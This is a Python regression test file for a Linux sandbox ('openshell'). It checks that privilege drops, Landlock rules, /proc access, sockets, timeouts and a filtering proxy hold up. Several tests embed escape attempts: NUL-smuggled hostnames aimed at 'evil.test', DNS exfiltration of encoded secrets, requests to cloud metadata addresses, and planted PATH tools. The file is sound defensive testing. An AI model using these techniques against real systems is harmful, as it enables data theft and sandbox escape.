# SPDX-License-Identifier: Apache-2.0
"""What has gone wrong in programs of this kind, by exploit or to their users' cost, once each.

What other files prove in breadth (levels of Landlock, terminals, sockets of the host, runtimes) has
its one row here only where the mistake was another one.
"""
import ctypes
import os
import platform
import resource
import shutil
import socket
import struct
import subprocess
import threading
import time

import harness
import world
from harness import PYTHON, Skip, expect, test

origins = world.World()
API = f"{world.ADDRESS}:{world.API_PORT}"
URL = f"http://{API}/hello"
UNAWARE = ["env", "-i", "PATH=/usr/bin:/bin"]

PROXY = (
    "import os, re, socket, struct, time\n"
    "host, port = re.search(r'//([^/]+):(\\d+)', os.environ['http_proxy']).groups()\n"
    "def connect():\n"
    "    return socket.create_connection((host, int(port)), timeout=10)\n"
    "def answer(s):\n"
    "    data = b''\n"
    "    try:\n"
    "        while more := s.recv(65536): data += more\n"
    "    except OSError: pass\n"
    "    return data\n"
    f"good = b'GET {URL} HTTP/1.1\\r\\nHost: {API}\\r\\nConnection: close\\r\\n\\r\\n'\n")


# --- A machine that refuses a call, or pretends to have made it ------------------------------------

CALLS = {"prctl": 157, "setgroups": 116, "setresuid": 117, "setresgid": 119, "capset": 126,
         "landlock_create_ruleset": 444, "landlock_add_rule": 445, "landlock_restrict_self": 446,
         "seccomp": 317, "mount": 165, "pivot_root": 155, "umount2": 166}
PR_SET_NO_NEW_PRIVS, PR_SET_SECCOMP, PR_CAPBSET_DROP = 38, 22, 24
ALLOW, ERRNO = 0x7fff0000, 0x00050000


def machine_that_answers(name, number, first=None):
    """A function for the child: `name`, with `first` as its argument if given, is answered so."""
    if platform.machine() != "x86_64":
        raise Skip("the numbers of the calls here are those of x86_64")
    program = [(0x20, 0, 0, 0), (0x15, 0, 1 if first is None else 3, CALLS[name])]
    if first is not None:
        program += [(0x20, 0, 0, 16), (0x15, 0, 1, first)]
    program += [(0x06, 0, 0, ERRNO | number), (0x06, 0, 0, ALLOW)]
    filters = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *row) for row in program))
    libc = ctypes.CDLL(None, use_errno=True)

    def apply():
        if name == "setgroups":
            os.setgroups([1, 2])
        class Program(ctypes.Structure):
            _fields_ = [("length", ctypes.c_ushort), ("filter", ctypes.c_void_p)]
        wanted = Program(len(program), ctypes.addressof(filters))
        if os.geteuid() != 0:
            libc.prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)
        if libc.prctl(PR_SET_SECCOMP, 2, ctypes.byref(wanted), 0, 0) != 0:
            raise OSError(ctypes.get_errno(), "PR_SET_SECCOMP")
    return apply


def run_on(machine, policy=None, options=()):
    host = harness.start_host(["sh", "-c", "echo RAN"], policy or world.policy(API), options,
                              preexec_fn=machine)
    out, err = host.communicate(timeout=20)
    return harness.Result(host.returncode, out.decode(), err.decode(), 0)


@test("a drop of privileges that is refused, or does nothing, starts no program")
def _drop():
    cases = [("prctl", 1, PR_CAPBSET_DROP), ("prctl", 0, PR_CAPBSET_DROP), ("capset", 1, None),
             ("capset", 0, None), ("prctl", 22, PR_SET_NO_NEW_PRIVS)]
    if harness.IS_ROOT:
        cases += [("prctl", 0, PR_SET_NO_NEW_PRIVS)]
        cases += [(name, number, None) for name in ("setgroups", "setresuid", "setresgid")
                  for number in (0, 1)]
    control = run_on(machine_that_answers("umount2", 1, 12345))
    expect(control.code == 0 and control.out == "RAN\n", control)
    for name, number, first in cases:
        result = run_on(machine_that_answers(name, number, first))
        expect(result.code in (125, 126) and "RAN" not in result.out, name, number, first, result)
        expect("openshell: " in result.err, name, number, first, result)


@test("walls that the machine refuses stop the start: Landlock never becomes weaker in silence")
def _walls():
    for name in ("landlock_create_ruleset", "landlock_add_rule", "landlock_restrict_self", "seccomp",
                 "mount", "pivot_root"):
        for number in (1, 38):
            result = run_on(machine_that_answers(name, number))
            expect(result.code in (125, 126) and "RAN" not in result.out, name, number, result)
    result = run_on(machine_that_answers("landlock_create_ruleset", 1), None,
                    ["--allow-degraded=landlock"])
    expect(result.out == "RAN\n" and "WITHOUT landlock" in result.err, result)


# --- Files -----------------------------------------------------------------------------------------

@test("one path that is missing takes only its own rule along: every other rule stands")
def _missing():
    base = harness.scratch()
    for name in ("ro", "rw", "other"):
        os.mkdir(os.path.join(base, name))
        with open(os.path.join(base, name, "file"), "w", encoding="utf-8") as stream:
            stream.write("text\n")
    harness.open_up(base)
    script = (f"cat {base}/ro/file; for d in ro rw other; do "
              f"(echo x >> {base}/$d/file) 2> /dev/null && echo wrote $d; done; "
              f"cat {base}/other/file 2> /dev/null && echo READ; exit 0")
    for gone in ([], [f"{base}/gone", "/no/such"]):
        result = harness.run_shell(script, world.policy(
            read_only=[*gone[:1], f"{base}/ro", *gone[1:]], read_write=[f"{base}/rw"]))
        expect(result.out.split() == ["text", "wrote", "rw"], gone, result)


@test("a read-only file in a writable tree can be neither written, cut, removed, replaced nor moved "
      "away with its folder")
def _locked():
    base = harness.scratch()
    os.makedirs(os.path.join(base, "tree/inner"))
    for name in ("locked", "free"):
        with open(os.path.join(base, "tree/inner", name), "w", encoding="utf-8") as stream:
            stream.write("text\n")
    harness.open_up(base)
    result = harness.run_python(
        "import os\n"
        "def attempt(what, *arguments):\n"
        "    try: what(*arguments); return 'done'\n"
        "    except OSError: return 'refused'\n"
        "def write(path): open(path, 'a').write('x')\n"
        "for name in ('locked', 'free'):\n"
        f"    path = f'{base}/tree/inner/{{name}}'\n"
        f"    open('{base}/tree/inner/new', 'w').close()\n"
        "    print(name, attempt(write, path), attempt(os.truncate, path, 1), \n"
        f"          attempt(os.replace, '{base}/tree/inner/new', path), attempt(os.unlink, path))\n"
        f"print(attempt(os.rename, '{base}/tree/inner', '{base}/tree/moved'))\n"
        f"print(attempt(os.link, '{base}/tree/inner/locked', '{base}/tree/hard'))\n",
        world.policy(read_only=[f"{base}/tree/inner/locked"], read_write=[f"{base}/tree"]))
    expect(result.out.splitlines()[:2] == ["locked" + " refused" * 4, "free" + " done" * 4], result)
    expect(result.out.splitlines()[2:] == ["refused"] * 2, result)
    with open(os.path.join(base, "tree/inner/locked"), encoding="utf-8") as stream:
        expect(stream.read() == "text\n", "it was changed")


@test("the program that made the box cannot be replaced or read through /proc")
def _own_program():
    result = harness.run_python(
        "import glob, os\n"
        "for path in ('/proc/1/exe', '/proc/1/fd/0', '/proc/1/map_files', '/proc/1/root/etc/hosts',\n"
        "             '/proc/1/cwd/x'):\n"
        "    for flags in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR | os.O_TRUNC):\n"
        "        try: os.open(path, flags); print('OPENED', path, flags)\n"
        "        except OSError: print('refused')\n"
        "me = os.open('/proc/self/exe', os.O_RDONLY)\n"
        "try: os.open(f'/proc/self/fd/{me}', os.O_WRONLY); print('OPENED')\n"
        "except OSError: print('refused')\n", world.policy(read_only=["/proc"]))
    expect(result.code == 0 and result.out.split() == ["refused"] * 16, result)


@test("a socket of the host is out of reach when it is abstract, outside of what is granted, or behind "
      "a link; only a granted folder brings its own along")
def _sockets():
    base = harness.scratch()
    os.mkdir(os.path.join(base, "ro"))
    os.mkdir(os.path.join(base, "hidden"))
    harness.open_up(base)
    places = ["\0osh-peers", f"{base}/ro/socket", f"{base}/hidden/socket"]
    servers = []
    for place in places:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            server = socket.socket(socket.AF_UNIX, kind)
            server.bind(place + str(int(kind)))
            if place[0] != "\0":
                os.chmod(place + str(int(kind)), 0o666)
            if kind == socket.SOCK_STREAM:
                server.listen()
            server.setblocking(False)
            servers.append(server)
    os.symlink(f"{base}/hidden", f"{base}/ro/link")
    script = ("import socket\n"
              f"for place in {places + [f'{base}/ro/link/socket']!r}:\n"
              "    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n"
              "        s = socket.socket(socket.AF_UNIX, kind); s.settimeout(1)\n"
              "        try: s.connect(place + str(int(kind))); s.send(b'x')\n"
              "        except OSError: pass\n"
              "print('done')\n")

    def reached():
        found = set()
        for server in servers:
            try:
                while server.accept() if server.type == socket.SOCK_STREAM else server.recv(1):
                    found.add(server.getsockname())
            except BlockingIOError:
                pass
        return found

    subprocess.run([PYTHON, "-I", "-c", script], check=True, stdout=subprocess.DEVNULL)
    expect(len(reached()) == len(servers), "the control does not reach them")
    result = harness.run_python(script, world.policy(read_only=["/proc", f"{base}/ro"]))
    names = {name if isinstance(name, str) else name.decode() for name in reached()}
    expect(result.out == "done\n" and names == {f"{base}/ro/socket1", f"{base}/ro/socket2"}, names,
           result)
    for server in servers:
        server.close()


@test("mounts of the machine stay as they are while a box runs, how they propagate as well")
def _mounts():
    before = harness.mounts()
    host = harness.start_host(["sh", "-c", "echo up; sleep 30"], world.policy(API))
    try:
        expect(host.stdout.readline() == b"up\n", "the box does not start")
        expect(harness.mounts() == before, harness.mounts() ^ before)
    finally:
        host.kill()
        host.communicate()


# --- Processes -------------------------------------------------------------------------------------

@test("when the time is up everything ends: who left the group, the session and ignores signals, too")
def _timeout():
    with harness.nothing_left():
        result = harness.run_python(
            "import os, signal, time\n"
            "for number in (1, 2, 3, 15): signal.signal(number, signal.SIG_IGN)\n"
            "for depth in range(3):\n"
            "    if os.fork() == 0: os.setsid(); print('up', flush=True)\n"
            "time.sleep(600)\n", world.policy(), options=["--timeout", "2"])
    expect(result.code == 124 and result.out.split() == ["up"] * 7, result)


@test("no program that is found by a path is run: not ours by name, nor the box's")
def _tools():
    folder = harness.scratch()
    ran = os.path.join(folder, "ran")
    tools = ("ip", "nft", "nsenter", "iptables", "ip6tables", "iptables-legacy", "dmesg", "mount",
             "umount", "unshare", "setpriv", "newuidmap", "newgidmap", "bwrap", "sysctl", "modprobe",
             "tc", "sh", "bash", "env", "getent", "id", "openssl", "update-ca-certificates")
    for name in tools:
        with open(os.path.join(folder, name), "w", encoding="utf-8") as stream:
            stream.write(f"#!/bin/sh\necho $0 >> {ran}\n")
        os.chmod(os.path.join(folder, name), 0o755)
    environment = harness.clean_environment(PATH=folder + ":" + harness.PATH)
    subprocess.run([os.path.join(folder, "ip")], check=True)
    expect(os.path.exists(ran), "the control leaves no mark")
    os.unlink(ran)
    result = harness.run_host(["/bin/true"], world.policy(API), cwd=folder, env=environment)
    expect(result.code == 0, result)
    harness.run_host(None, None, ["doctor"], cwd=folder, env=environment)
    if os.path.exists(ran):
        with open(ran, encoding="utf-8") as stream:
            raise AssertionError(stream.read())


@test("interfaces can be listed and a home folder written: what everyday tools need is not refused")
def _everyday():
    script = (
        "import ctypes, os, socket\n"
        "libc = ctypes.CDLL(None); head = ctypes.c_void_p()\n"
        "print(libc.getifaddrs(ctypes.byref(head)), *(n for _, n in socket.if_nameindex()))\n"
        "path = os.path.join(os.environ['HOME'], '.cache'); os.makedirs(path, exist_ok=True)\n"
        "open(os.path.join(path, 'x'), 'w').close(); print('home')\n")
    for options in ([], ["--disable", "network"]):
        result = harness.run_python(script, world.policy(), options=options)
        expect(result.out.split() == ["0", "lo", "home"], options, result)
    node = shutil.which("node", path=harness.PATH)
    if node is not None:
        result = harness.run_host(
            [node, "-p", "JSON.stringify(os.networkInterfaces().lo.map(a => a.address))"],
            world.policy(API))
        expect(result.code == 0 and '"127.0.0.1"' in result.out and '"10.200.0.2"' in result.out,
               result)


# --- The network -----------------------------------------------------------------------------------

@test("a NUL in a name reaches nothing: by tunnel, forward, Host, DNS or a greeting of SOCKS")
def _nul():
    name = b"api.example.test"
    port = world.API_PORT
    requests = [
        b"CONNECT %s\0.evil.test:%d HTTP/1.1\r\n\r\n" % (name, port),
        b"CONNECT evil.test\0.%s:%d HTTP/1.1\r\n\r\n" % (name, port),
        b"CONNECT %s\0:%d HTTP/1.1\r\n\r\n" % (name, port),
        b"CONNECT %s%%00.evil.test:%d HTTP/1.1\r\n\r\n" % (name, port),
        b"GET http://%s\0.evil.test:%d/ HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (name, port, name, port),
        b"GET http://%s%%00.evil.test:%d/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (name, port, name),
        b"GET http://%s:%d/ HTTP/1.1\r\nHost: evil.test\0.%s:%d\r\n\r\n" % (name, port, name, port),
        b"\x05\x01\x00\x05\x01\x00\x03\x1b%s\0.evil.test\x1f\x90" % name,
        b"\x04\x01\x1f\x90\x00\x00\x00\x01x\0%s\0.evil.test\0" % name,
    ]
    before = len(origins.api.requests), origins.api.connections
    script = (PROXY + f"for request in {requests!r}:\n"
              "    s = connect(); s.sendall(request)\n"
              "    if b'CONNECT' in request: s.settimeout(1)\n"
              "    a = answer(s); print(a[:12])\n"
              "server = [l.split()[1] for l in open('/etc/resolv.conf') if 'nameserver' in l][0]\n"
              "q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0)\n"
              "for label in (b'api\\0', b'evil\\0api'):\n"
              "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
              "    s.connect((server, 53))\n"
              "    s.send(q + bytes([len(label)]) + label + b'\\7example\\4test\\0\\0\\1\\0\\1')\n"
              "    try: a = s.recv(512); print('DNS', a[3] & 15, a[7])\n"
              "    except OSError: print('DNS silent 0')\n"
              "s = connect(); s.sendall(good); print('good', b'world' in answer(s))\n")
    result = harness.run_python(script, world.policy(API, {"host": "*.example.test", "port": port,
                                                           "allowed_ips": ["10.77.0.0/24"]}))
    lines = result.out.splitlines()
    expect(result.code == 0 and len(lines) == len(requests) + 3, result)
    for request, line in zip(requests, lines):
        expect(" 200" not in line and " 101" not in line and "\\x05\\x00\\x00" not in line and
               "Z" not in line, request, line, result)
    expect(all(line.split()[1] != "0" and line.endswith(" 0") for line in lines[-3:-1]), lines)
    expect(lines[-1] == "good True", result)
    expect(len(origins.api.requests) == before[0] + 1, origins.api.requests)


class Nameserver:
    """A server of names on 10.77.0.1 that notes what it is asked and answers with a public one."""

    def __init__(self):
        self.asked = []
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((world.ADDRESS, 53))
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            query, peer = self.socket.recvfrom(1500)
            labels, at = [], 12
            while query[at]:
                labels.append(query[at + 1:at + 1 + query[at]].decode("latin-1"))
                at += 1 + query[at]
            self.asked.append(".".join(labels))
            kind = query[at + 1:at + 3]
            end = at + 5
            answer = b"" if kind != b"\0\1" else (b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4" +
                                                  socket.inet_aton(world.PUBLIC_ADDRESS))
            self.socket.sendto(query[:2] + b"\x81\x80\0\1\0" + bytes([bool(answer)]) + b"\0\0\0\0" +
                               query[12:end] + answer, peer)


@test("names are no way out: what is asked in the box is never passed on, only what is connected to")
def _names():
    script = ("import socket, urllib.request\n"
              "def ask(name):\n"
              "    try: return socket.gethostbyname(name)\n"
              "    except OSError: return 'refused'\n"
              "print(ask('c2VjcmV0.evil.test'), ask('c2VjcmV0.api.example.test'), \n"
              "      ask('c2VjcmV0.public.test'))\n"
              "print(*(ask(f'c2VjcmV0{n}.wild.test') for n in range(9)))\n")
    connect = "urllib.request.urlopen('http://named.wild.test:8080/', timeout=8); print('served')\n"
    policy = world.policy("public.test:8080", "*.wild.test:8080")
    if not harness.IS_ROOT:
        result = harness.run_host([*UNAWARE, PYTHON, "-I", "-c", script], policy)
        lines = result.out.splitlines()
        expect(lines[0].split() == ["refused"] * 3 and len(set(lines[1].split())) == 9, result)
        return
    nameserver = Nameserver()
    config = os.path.join(harness.scratch(), "resolv.conf")
    with open(config, "w", encoding="utf-8") as stream:
        stream.write(f"nameserver {world.ADDRESS}\n")
    for more in ("", connect):
        command = harness.host_command([*UNAWARE, PYTHON, "-I", "-c", script + more], policy)
        done = subprocess.run(
            ["unshare", "-m", "--propagation", "private", "sh", "-c",
             f"mount --bind {config} /etc/resolv.conf && exec \"$@\"", "sh", *command],
            capture_output=True, text=True, check=False, timeout=20, cwd=harness.scratch(),
            env=harness.clean_environment())
        lines = done.stdout.splitlines()
        expect(done.returncode == 0 and lines[0].split() == ["refused"] * 3, done.stdout, done.stderr)
        expect(len(set(lines[1].split())) == 9 and "refused" not in lines[1], done.stdout)
        # The control is the name that is connected to.
        expect(set(nameserver.asked) == ({"named.wild.test"} if more else set()), nameserver.asked)
        expect(("served" in lines) == bool(more), done.stdout, done.stderr)


@test("the target of a tunnel decides, not its Host, nor where it leads, and the proxy is no target")
def _tunnels():
    refused = f"{world.ADDRESS}:{world.REFUSED_PORT}"
    before = origins.refused.connections
    result = harness.run_python(
        PROXY + "def ask(first, *more):\n"
        "    s = connect(); s.settimeout(3); s.sendall(first); a = s.recv(4096)\n"
        "    if not first.startswith(b'CONNECT'): a += answer(s)\n"
        "    for text in more: s.sendall(text); a = answer(s)\n"
        "    print(a[:12].decode('latin-1').replace(' ', '_') or 'closed', b'world' in a)\n"
        f"ask(b'CONNECT {refused} HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n')\n"
        f"ask(b'GET http://{refused}/ HTTP/1.1\\r\\nHost: {API}\\r\\nConnection: close\\r\\n\\r\\n')\n"
        "ask(b'CONNECT %s:%s HTTP/1.1\\r\\n\\r\\n' % (host.encode(), port.encode()))\n"
        "ask(b'CONNECT 127.0.0.1:%s HTTP/1.1\\r\\n\\r\\n' % port.encode())\n"
        # The origin is no proxy: what it is asked inside a tunnel it answers itself.
        f"ask(b'CONNECT {API} HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n',\n"
        f"    b'GET http://{refused}/x HTTP/1.1\\r\\nHost: {refused}\\r\\nConnection: close\\r\\n\\r\\n')\n"
        f"ask(b'CONNECT {API} HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n',\n"
        f"    b'CONNECT {refused} HTTP/1.1\\r\\nConnection: close\\r\\n\\r\\n')\n"
        "ask(good)\n", world.policy(API))
    lines = result.out.splitlines()
    expect(result.code == 0 and len(lines) == 7 and lines[-1] == "HTTP/1.1_200 True", result)
    for line in lines[:4]:
        expect("200" not in line and line.endswith("False"), result)
    expect(origins.refused.connections == before, "it was reached", result)


@test("addresses of a cloud's metadata stay refused, however the policy names them")
def _metadata():
    names = ("169.254.169.254", "100.100.100.200", "168.63.129.16")
    policy = world.policy(API, *(f"{name}:80" for name in names), "[fd00:ec2::254]:80")
    urls = [f"http://{name}/" for name in (*names, "[fd00:ec2::254]", "[::ffff:169.254.169.254]",
                                           "2852039166", "0xa9fea9fe")]
    result = harness.run_shell(
        "for url in " + " ".join(f"'{url}'" for url in urls) + "; do "
        "curl -gs -o /dev/null -w '%{http_code} ' --max-time 5 $url; "
        "env -i curl -gs -o /dev/null -w '%{http_code} ' --max-time 5 $url; done; exit 0", policy)
    codes = result.out.split()
    expect(len(codes) == 2 * len(urls) and set(codes) <= {"000", "403", "400"}, result)
    expect(len(result.denials()) >= 4 and "FAILED" not in result.err, result)


@test("descriptors that run out stop nobody for good: the proxy serves again when they are back")
def _descriptors():
    script = (PROXY + "import os\n"
              "pipes = []\n"
              "for child in range(4):\n"
              "    r, w = os.pipe()\n"
              "    if os.fork() == 0:\n"
              "        held = []\n"
              "        for n in range(40):\n"
              "            try: held.append(connect())\n"
              "            except OSError: pass\n"
              "        os.write(w, b'x'); time.sleep(1); os._exit(0)\n"
              "    pipes.append(r)\n"
              "for r in pipes: os.read(r, 1)\n"
              "while True:\n"
              "    try: os.wait()\n"
              "    except ChildProcessError: break\n"
              "limit = time.monotonic() + 15; a = b''\n"
              "while b'world' not in a and time.monotonic() < limit:\n"
              "    try: s = connect(); s.sendall(good); a = answer(s)\n"
              "    except OSError: pass\n"
              "print(b'world' in a)\n")
    host = harness.start_host([PYTHON, "-I", "-c", script], world.policy(API),
                              preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE,
                                                                    (110, 110)))
    out, err = host.communicate(timeout=35)
    expect(host.returncode == 0 and out == b"True\n", host.returncode, out, err.decode())
    expect(b"accept" in err or b"descriptors" in err, "it never ran out", err.decode())


def serve(talk):
    """A server on 10.77.0.1 that treats each connection by talk(). Returns: its port."""
    listener = socket.socket()
    listener.bind((world.ADDRESS, 0))
    listener.listen(16)

    def run():
        while True:
            connection, _peer = listener.accept()
            threading.Thread(target=talk, args=(connection,), daemon=True).start()
    threading.Thread(target=run, daemon=True).start()
    return listener.getsockname()[1]


@test("an answer that breaks off is never made to look whole, forwarded, tunnelled or captured")
def _broken_off():
    def talk(connection):
        head = connection.recv(4096)
        connection.sendall(b"HTTP/1.1 200 OK\r\n" + (
            b"Content-Length: 1000\r\n\r\nshort" if b"/length" in head else
            b"Transfer-Encoding: chunked\r\n\r\n5\r\nshort\r\n"))
        connection.close()

    port = serve(talk)
    script = "".join(
        f"{prefix} curl -s {more} --max-time 8 http://{world.ADDRESS}:{port}/{kind}; echo \" $?\"\n"
        for prefix, more in (("", ""), ("", "--proxytunnel"), ("env -i", ""))
        for kind in ("length", "chunks"))
    result = harness.run_shell(script, world.policy(f"{world.ADDRESS}:{port}"))
    lines = result.out.splitlines()
    expect(len(lines) == 6, result)
    for line in lines:
        expect(line.split()[0] == "short" and line.split()[-1] in ("18", "56"), lines, result)


@test("a program that knows no proxy changes protocols, and no byte after the change is lost")
def _upgrade():
    def talk(connection):
        connection.recv(4096)
        connection.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
                           b"Connection: Upgrade\r\n\r\n\x81\x02hi")
        while data := connection.recv(4096):
            connection.sendall(data)
        connection.close()

    port = serve(talk)
    result = harness.run_host(
        [*UNAWARE, PYTHON, "-I", "-c",
         "import socket\n"
         f"s = socket.create_connection(('{world.ADDRESS}', {port}), timeout=8)\n"
         f"s.sendall(b'GET /chat HTTP/1.1\\r\\nHost: {world.ADDRESS}:{port}\\r\\n'\n"
         "          b'Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n')\n"
         "data = b''\n"
         "while not data.endswith(b'\\x81\\x02hi'): data += s.recv(4096)\n"
         "s.sendall(b'\\x81\\x82\\0\\0\\0\\0ok'); data = b''\n"
         "while len(data) < 8: data += s.recv(8)\n"
         "print(data == b'\\x81\\x82\\0\\0\\0\\0ok')\n"], world.policy(f"{world.ADDRESS}:{port}"))
    expect(result.code == 0 and result.out == "True\n", result)


@test("small writes are not held back, and an answer may take longer than a head")
def _latency():
    result = harness.run_python(
        PROXY + "for kind in ('forward', 'captured'):\n"
        f"    target = b'{URL}' if kind == 'forward' else b'/hello'\n"
        "    times = []\n"
        "    s = None\n"
        "    for n in range(12):\n"
        "        if kind == 'forward': s = connect()\n"
        "        elif s is None:\n"
        f"            s = socket.create_connection(('{world.ADDRESS}', {world.API_PORT}), timeout=8)\n"
        "        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n"
        "        began = time.monotonic()\n"
        f"        s.sendall(b'POST ' + target + b' HTTP/1.1\\r\\nHost: {API}\\r\\n'\n"
        "                  b'Content-Length: 2\\r\\n\\r\\n'); s.sendall(b'ab')\n"
        "        data = b''\n"
        "        while b'world' not in data or not data.endswith(b'\\n'): data += s.recv(4096)\n"
        "        times.append(time.monotonic() - began)\n"
        "    print(min(times))\n"
        f"s = connect(); s.sendall(good.replace(b'/hello', b'/sleep/1.6')); print(b'world' in answer(s))\n",
        world.policy(API), options=["--set", "network.head_timeout=1"])
    lines = result.out.split()
    # Waiting for an acknowledgement takes 40 ms each time.
    expect(len(lines) == 3 and max(map(float, lines[:2])) < 0.035, result)
    expect(lines[2] == "True", result)


harness.main()
